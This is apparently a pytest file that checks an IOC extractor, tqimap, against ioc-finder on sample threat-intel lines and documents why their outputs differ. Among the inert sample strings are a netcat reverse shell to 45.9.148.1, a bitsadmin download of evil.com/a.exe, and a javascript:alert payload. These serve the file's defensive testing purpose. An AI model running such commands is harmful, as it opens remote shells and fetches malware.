"""Every difference from ioc-finder, the most accurate peer, over a fixed corpus has its reason.

All lines were written for this file.
"""

from __future__ import annotations

import pytest
from bench.extractor import EXTRACTORS, KINDS, values


PEER = "ioc-finder"
# reason: lines with what only tqimap finds in them, and what only the peer does
EXPLAINED: dict[str, list[tuple[str, set[str], set[str]]]] = {
    "a way of defanging or of writing that the peer does not know": [
        ("user at evil dot com", {"evil.com", "user@evil.com"}, set()),
        ("https&colon;//evil.com/a", {"https://evil.com/a"}, {"evil.com/a"}),
        (
            "hxxp__evil.com/a",
            {"evil.com", "http://evil.com/a"},
            {"http__evil.com", "http__evil.com/a"},
        ),
        ("hxxps:\\\\evil[.]com\\a", {"https://evil.com"}, set()),
        ("CVE-2023\u201334362", {"CVE-2023-34362"}, set()),
    ],
    "a Message-ID is no address": [
        ("Message-ID: <abc123@mx.evil.com>", set(), {"abc123@mx.evil.com", "mx.evil.com"}),
    ],
    "files, methods, fields and names of malware are no domains": [
        ("crontab: */5 * * * * /root/.systemd-private/init.sh >/dev/null 2>&1", set(), {"init.sh"}),
        ('process.name:"evil.exe" and host.name:ws01', set(), {"host.name", "process.name"}),
        ("exploit/CVE-2024-3400.py", set(), {"cve-2024-3400.py"}),
        ("System.Net.Http.HttpClient", set(), {"system.net"}),
        ("Win.Ransomware.Lockbit.ai", set(), {"win.ransomware.lockbit.ai"}),
        ("this.name = foo.id", set(), {"this.name"}),
        (
            "backdoor at /usr/local/bin/.hidden/sshd and config in /etc/ld.so.preload",
            set(),
            {"ld.so"},
        ),
    ],
    "marks behind a link, and brackets around it, are the sentence's": [
        (
            "see https://evil.com/a/b.php?x=1,",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1,"},
        ),
        (
            "see https://evil.com/a/b.php?x=1!",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1!"},
        ),
        (
            "see https://evil.com/a/b.php?x=1;",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1;"},
        ),
        (
            "see https://evil.com/a/b.php?x=1:",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1:"},
        ),
        ("(https://evil.com/a_(b))", {"https://evil.com/a_(b)"}, {"https://evil.com/a_(b))"}),
        (
            "see https://evil.com/a/b.php?x=1|",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1|"},
        ),
        (
            "see https://evil.com/a/b.php?x=1}",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1}"},
        ),
        (
            "see https://evil.com/a/b.php?x=1>",
            {"https://evil.com/a/b.php?x=1"},
            {"https://evil.com/a/b.php?x=1>"},
        ),
    ],
    "the number of a version is no address": [
        ("nginx/1.18.0.1", set(), {"1.18.0.1"}),
        (
            "OpenSSL 1.1.1.1 is old; Firefox 115.0.2.1 too; Windows 10.0.19045.3803",
            set(),
            {"1.1.1.1", "115.0.2.1"},
        ),
        ("Kernel 5.15.0.91", set(), {"5.15.0.91"}),
        ("Fixed in 7.2.4.1", set(), {"7.2.4.1"}),
        ("build 8.0.1.2", set(), {"8.0.1.2"}),
        ("versions 6.1.0.1 through 6.1.0.9 are vulnerable", set(), {"6.1.0.1", "6.1.0.9"}),
        ("FortiOS 7.0.0.12 is affected", set(), {"7.0.0.12"}),
    ],
    "what stands in a link's path is the link's; a link in it is a link": [
        ("https://web.archive.org/web/2020/http://evil.com/", {"http://evil.com/"}, set()),
        ("evil.com/bad.com", set(), {"bad.com"}),
    ],
    "a scheme that the peer does not know": [
        ("tcp://45.9.148.1:3333", {"tcp://45.9.148.1:3333"}, set()),
        ("stratum+tcp://pool.evil.com:3333", {"stratum+tcp://pool.evil.com:3333"}, set()),
    ],
    "a number as a host means an address": [
        ("http://0x7f.1/", {"127.0.0.1", "http://0x7f.1/"}, set()),
        ("http://3232235777/a", {"192.168.1.1", "http://3232235777/a"}, set()),
    ],
    "two links with nothing between them are two": [
        (
            "https://evil.com/ahttps://bad.com/b",
            {"https://evil.com/a", "https://bad.com/b"},
            {"https://evil.com/ahttps://bad.com/b"},
        ),
    ],
    "an Ethereum address is no digest": [
        (
            "0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed",
            set(),
            {"5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"},
        ),
    ],
    "a certificate's serial number is no digest": [
        (
            "Certificate serial number 04F131322CC31D92C849FCA351D2F141",
            set(),
            {"04f131322cc31d92c849fca351d2f141"},
        ),
    ],
    "behind a slash another address may stand": [
        ("john@evil.com/jane@evil.com", set(), {"john@evil.com/jane"}),
    ],
}
# and where both find the same
AGREED = [
    "host evil.com}",
    "host evil.com?",
    "files.zip.evil.com",
    "Serial: 0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9",
    "spf=pass (sender IP is 45.9.148.1) smtp.mailfrom=evil.com; dkim=pass header.d=evil.com",
    "event.code: 4625 and winlog.event_data.IpAddress: 45.9.148.1",
    "Check Point.The group",
    "*.docx, *.xlsx",
    "torch.nn.Module",
    "HKLM\\\\SOFTWARE\\\\Wow6432Node\\\\Evil Corp\\\\Agent",
    "self.data.info",
    "The share \\\\fileserver01\\Finance$\\Q3 Reports\\budget.xlsm was encrypted.",
    "evil.com→bad.org",
    "C2:45.9.148.1:443",
    'alert tcp $HOME_NET any -> 45.9.148.1 443 (msg:"ET MALWARE Evil"; sid:2024123; rev:1;)',
    "1.2.3[.]4:8080",
    '"d41d8cd98f00b204e9800998ecf8427e","da39a3ee5e6b4b0d3255bfef95601890afd80709"',
    "mutex name: qwe_rty-01",
    'see https://evil.com/a/b.php?x=1"',
    "U.S. government",
    "see https://evil.com/a/b.php?x=1'",
    "FileVersion 6.1.7601.17514",
    "2024-01-02T03:04:05.678Z",
    "01.02.2024 10:11:12.123",
    'content:"evil.com"; http_host;',
    "CVE 2023-34362",
    'see https://evil.com/a/b.php?x=1".',
    "[https://evil.com/a](https://evil.com/a)",
    "Next.js, Vue.js and D3.js",
    "Ransom.Win32.LOCKBIT.SMYXCJN",
    "hosted at AS14061 (DigitalOcean)",
    "host evil.com -",
    "Trojan:Win32/Emotet.A!ml",
    "imphash: d41d8cd98f00b204e9800998ecf8427e",
    "host evil.com]",
    "host evil.com'",
    '<a href="http://evil.com/a">http://good.com</a>',
    "ISO 27001:2022",
    "*[.]evil[.]com",
    "45.9.148.1|evil.com",
    "MAC 00-1A-2B-3C-4D-5E seen",
    "payload.bin, stage2.dat and config.ini",
    "regex \\d+\\.\\d+ and \\w\\s",
    'host evil.com"',
    "nc -e /bin/sh 45.9.148.1 4444",
    "CVE-2023-34362/34363",
    "tls.sni=evil.com ja3=769,47-53",
    "libcurl-7.61.1.2.el8",
    "$env:LOCALAPPDATA\\Temp\\run.ps1 was executed",
    "HKEY_LOCAL_MACHINE SOFTWARE settings",
    "evil.com,45.9.148.1,bad.org",
    "Exploit.CVE-2017-11882.Gen",
    "user (at) evil (dot) com",
    "cmd.exe /c del C:\\Windows\\Temp\\x.bat & exit",
    "host evil.com”",
    "W32/Agent.AB!tr",
    "#phishing hxxps://evil[.]com/login 🎣 @bank",
    "the and/or choice; 24/7 support; TCP/IP; input/output",
    "https://blockchain.com/btc/address/1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
    "PDB path: E:\\Projects\\stealer v2\\Release\\stealer.pdb",
    "network.direction",
    "Exchange 15.2.1118.7",
    'host evil.com".',
    "Confluence Server 7.18.1.2",
    "C:\\Users\\<username>\\AppData\\Roaming\\svc.exe",
    "user@evil[.]com",
    "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?amount=1",
    "host evil.com:",
    "'Purchase Order.docx.lnk'",
    'dns_query:"evil.com" OR dest_ip:45.9.148.1',
    "javascript:alert(1)",
    "org.apache.logging.log4j",
    "User-Agent string: python-requests/2.28.1",
    "evil.exe?dl=1",
    "host evil.com...",
    "MITRE T1059.001 and T1566.002",
    "<HKLM>\\SOFTWARE\\CLASSES\\CLSID\\{A1} Value Name: Default",
    "user AT evil DOT com",
    "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "<a@b.com>,<c@d.org>",
    "(00:1A:2B:3C:4D:5E)",
    "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
    "[click](https://evil.com/a)",
    "email:a@b.com",
    "00:1A:2B:3C:4D:5E",
    "00:1A:2B:3C:4D:5E.",
    "45[.]77.12[.]9",
    "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.",
    "see https://evil.com/a/b.php?x=1…",
    "bitsadmin /transfer j http://evil.com/a.exe %TEMP%\\a.exe",
    'with user-agent "Go-http-client/1.1" and',
    "host evil.com).",
    "MAC address: 001A2B3C4D5E",
    "see https://evil.com/a/b.php?x=1 -",
    "[url:value = 'http://evil.com/a?b=c']",
    "requests.get('https://evil.com/x')",
    "AS14061/AS9009",
    "1.148.9.45.in-addr.arpa",
    "|45.9.148.1|evil.com|",
    "evil.com+bad.com",
]


def _distinct(name: str, line: str) -> set[tuple[str, str]]:
    found = values(name, EXTRACTORS[name]()(line))
    return {(kind, value) for kind in KINDS for value in found[kind]}


@pytest.mark.parametrize("reason", EXPLAINED)
def test_every_difference_has_a_reason(reason: str) -> None:
    """Where tqimap and ioc-finder differ, both answers are known, and tqimap's is meant."""
    for line, ours, theirs in EXPLAINED[reason]:
        mine, others = _distinct("tqimap", line), _distinct(PEER, line)
        assert ({value for _, value in mine - others}, {value for _, value in others - mine}) == (
            ours,
            theirs,
        ), (line, reason)


def test_there_is_no_other_difference() -> None:
    """On all other lines both find the same values of the same types."""
    assert [line for line in AGREED if _distinct("tqimap", line) != _distinct(PEER, line)] == []
